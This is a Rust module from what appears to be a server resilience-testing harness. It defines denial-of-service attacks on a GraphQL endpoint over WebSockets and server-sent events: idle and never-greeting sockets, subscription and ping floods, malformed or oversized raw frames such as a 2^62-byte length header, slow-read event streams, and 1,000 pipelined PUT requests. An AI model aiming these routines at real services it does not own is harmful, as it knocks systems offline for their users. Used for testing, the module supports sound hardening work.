//! Attacks by subscriptions: over WebSockets and server-sent events.

use std::{
    io::{Read, Write},
    net::TcpStream,
    time::Duration,
};

use tungstenite::{Message, WebSocket, client::IntoClientRequest as _, handshake::client::Response};

use crate::{
    bank::{Answer, Attack, Field},
    exchange::{self, connect},
};

const CLASS: &str = "streams";
const SLOW: Duration = Duration::from_millis(100);
const LIVE: &str = "subscription { books(limit: 1000) { id title author { name } } }";

type Socket = WebSocket<TcpStream>;

fn open(field: &Field<'_>) -> Option<Socket> {
    let mut request = format!("ws://{}/graphql", field.site.address).into_client_request().ok()?;
    request.headers_mut().insert("Sec-WebSocket-Protocol", "graphql-transport-ws".parse().ok()?);
    let opened: Result<(Socket, Response), _> = tungstenite::client(request, connect(field)?);
    opened.ok().map(|(socket, _)| socket)
}

/// With the greeting of the protocol done.
fn acknowledged(field: &Field<'_>) -> Option<Socket> {
    let mut socket = open(field)?;
    socket.send(Message::text("{\"type\":\"connection_init\"}")).ok()?;
    socket.read().ok()?;
    Some(socket)
}

fn subscribe(socket: &mut Socket, id: u64, query: &str) -> bool {
    let text = format!("{{\"id\":\"{id}\",\"type\":\"subscribe\",\"payload\":{{\"query\":\"{query}\"}}}}");
    socket.send(Message::text(text)).is_ok()
}

/// A socket that is kept as long as `act` can write to it.
fn held(
    name: &'static str,
    clients: usize,
    begin: fn(&Field<'_>) -> Option<Socket>,
    act: impl Fn(&mut Socket, u64) -> bool + Send + Sync + 'static,
) -> Attack {
    Attack::new(CLASS, name, clients, move |field| {
        let Some(mut socket) = begin(field) else { return Answer::None };
        let mut number = 0;
        field.hold(SLOW, || {
            number += 1;
            act(&mut socket, number)
        })
    })
}

/// Bytes of frames as they stand on the connection, masked with zeros.
fn raw(socket: &mut Socket, bytes: &[u8]) -> bool {
    socket.get_mut().write_all(bytes).is_ok()
}

fn events(field: &Field<'_>) -> Answer {
    let body = format!("{{\"query\":\"{LIVE}\"}}");
    let headers = "Content-Type: application/json\r\nAccept: text/event-stream\r\n";
    let request = exchange::request(field.site, "POST /graphql", headers, body.as_bytes());
    let mut held: Vec<TcpStream> = (0..50).filter_map(|_| connect(field)).collect();
    held.retain_mut(|stream| stream.write_all(&request).is_ok());
    let mut byte = [0];
    field.hold(SLOW, || {
        held.retain_mut(|stream| stream.read(&mut byte).is_ok_and(|count| count > 0));
        true
    })
}

/// A thousand on one connection; ten times as many may wait to be opened.
fn reservations(field: &Field<'_>) -> Answer {
    let put = |connection: &str| {
        format!(
            "PUT /graphql/stream HTTP/1.1\r\nHost: {}\r\nContent-Length: 0\r\nConnection: {connection}\r\n\r\n",
            field.site.address
        )
    };
    exchange::send(field, (put("keep-alive").repeat(999) + &put("close")).as_bytes())
}

pub(crate) fn attacks() -> Vec<Attack> {
    vec![
        held("sockets that never greet", 50, open, |_, _| true),
        held("live queries, another one each time", 4, acknowledged, |socket, number| {
            subscribe(
                socket,
                number,
                &format!("subscription {{ books(limit: {}) {{ id title }} }}", number + 1),
            )
        }),
        held("large live queries that are never read", 4, acknowledged, |socket, number| {
            subscribe(socket, number, LIVE)
        }),
        held("the same id again and again", 4, acknowledged, |socket, _| subscribe(socket, 1, LIVE)),
        held("messages that are no JSON", 4, acknowledged, |socket, _| {
            socket.send(Message::text("{{{{")).is_ok()
        }),
        held("pings by the thousand", 4, acknowledged, |socket, _| {
            (0..1000).all(|_| socket.send(Message::Ping(vec![0; 100].into())).is_ok())
        }),
        held("pings of 1,000 bytes, which are not allowed", 4, acknowledged, |socket, _| {
            raw(socket, &[&[0x89, 0xfe, 0x03, 0xe8, 0, 0, 0, 0][..], &[0; 1000]].concat())
        }),
        held("a message that never ends, in small frames", 4, acknowledged, |socket, number| {
            let first = u8::from(number == 1);
            raw(socket, &[&[first, 0xfe, 0xff, 0x00, 0, 0, 0, 0][..], &[b' '; 0xff00]].concat())
        }),
        held("a frame of 2^62 bytes", 4, acknowledged, |socket, _| {
            raw(socket, &[0x81, 0xff, 0x40, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0])
        }),
        held("frames without a mask", 4, acknowledged, |socket, _| raw(socket, b"\x81\x02{}")),
        Attack::new(CLASS, "server-sent events that are hardly read", 4, events),
        Attack::new(CLASS, "1,000 streams reserved and not opened, again and again", 2, reservations),
    ]
}
